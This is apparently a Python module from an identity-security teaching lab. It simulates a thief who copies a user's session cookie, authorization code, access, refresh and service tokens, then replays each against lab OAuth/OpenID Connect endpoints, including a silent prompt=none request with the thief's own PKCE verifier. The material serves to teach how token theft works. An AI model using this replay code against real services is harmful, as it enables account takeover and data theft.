"""From a copied credential to data at the API: what a thief does (lessons 06, 11 and 13).

Tom needs no password and forges nothing. He uses the doors that everybody uses.
"""

import hashlib
from urllib.parse import parse_qs, urlsplit

import httpx

from labutils.identity.oauth import bearer
from labutils.identity.tokens import b64
from labutils.stage.two_apps import API, LOGIN, NOTES, TwoApps

ITEMS = ("session cookie", "code", "access token", "refresh token", "service token")
VERIFIER = "a-verifier-of-the-thief-which-he-made-up-himself"
# An authorization request without any question to the person (OpenID Connect Core, 3.1.2.1).
SILENT_REQUEST = {
    "response_type": "code",
    "client_id": "notes",
    "redirect_uri": NOTES + "/cb",
    "scope": "openid profile offline_access",
    "prompt": "none",
    "code_challenge": b64(hashlib.sha256(VERIFIER.encode()).digest()),
    "code_challenge_method": "S256",
}


def steal(apps: TwoApps) -> dict[str, str]:
    """Ada signs in at notes, twice; a copy of all that passes by, by item.

    The second sign-in has just brought a code to her browser.
    """
    apps.sign_in("ada", NOTES)
    session = apps.notes.latest_session()
    landing = apps.sign_in("ada", NOTES, until=NOTES + "/cb").headers["location"]
    return {
        "session cookie": apps.session_cookie,
        "code": query(landing)["code"],
        "access token": session["access_token"],
        "refresh token": session["refresh_token"],
        "service token": apps.service_token(apps.lab.browser("backup", "192.0.2.220")),
    }


def query(address: str) -> dict[str, str]:
    """The parameters in the query of an address, by name."""
    return {name: values[0] for name, values in parse_qs(urlsplit(address).query).items()}


def replay(thief: httpx.Client, item: str, stolen: dict[str, str]) -> httpx.Response:
    """From a stolen item to data at the API: the answer of the last door that was tried."""
    if item in ("access token", "service token"):
        return thief.get(API + "/me", headers=bearer(stolen[item]))
    if item == "session cookie":
        answer = trade_cookie(thief, stolen[item])
    elif item == "code":
        answer = trade_code(thief, stolen[item])
    else:
        answer = trade_refresh_token(thief, stolen[item])
        stolen[item] = answer.json().get("refresh_token", stolen[item])  # the new one, from now on
    if not answer.is_success:
        return answer
    return thief.get(API + "/me", headers=bearer(answer.json()["access_token"]))


def trade_cookie(thief: httpx.Client, cookie: str) -> httpx.Response:
    """A session cookie opens /authorize: it gives a code for the thief's own verifier."""
    header = {"cookie": "session=" + cookie}
    answer = thief.get(LOGIN + "/authorize", params=SILENT_REQUEST, headers=header)
    code = query(answer.headers["location"]).get("code")
    return answer if code is None else trade_code(thief, code)


def trade_code(thief: httpx.Client, code: str) -> httpx.Response:
    """A code at the token endpoint (RFC 6749, 4.1.3), with the thief's verifier (RFC 7636, 4.5)."""
    form = {"grant_type": "authorization_code", "client_id": "notes", "code": code}
    form |= {"redirect_uri": NOTES + "/cb", "code_verifier": VERIFIER}
    return thief.post(LOGIN + "/token", data=form)


def trade_refresh_token(thief: httpx.Client, token: str) -> httpx.Response:
    """A refresh token at the token endpoint (RFC 6749, 6)."""
    form = {"grant_type": "refresh_token", "client_id": "notes", "refresh_token": token}
    return thief.post(LOGIN + "/token", data=form)
